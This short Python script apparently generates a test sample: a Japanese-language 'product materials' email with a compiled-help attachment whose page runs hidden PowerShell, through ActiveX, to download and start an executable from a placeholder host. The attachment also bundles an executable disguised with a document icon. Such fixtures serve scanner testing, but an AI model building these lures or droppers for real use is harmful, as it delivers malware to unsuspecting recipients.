"""Compiled help, whose page a double click shows with all that its script may do."""
from kit import *


def make():
    page = ("<html><body><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden iwr "
            "http://x.example.invalid/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe',0)</script></body></html>")
    return (Mail("製品資料", "sales@trade.example.com").text("資料をお送りします。\n")
            .attach("製品資料.chm", chm([("index.htm", page.encode()), ("a/setup.exe", Pe().icon(icons.document()).bytes())])).bytes())
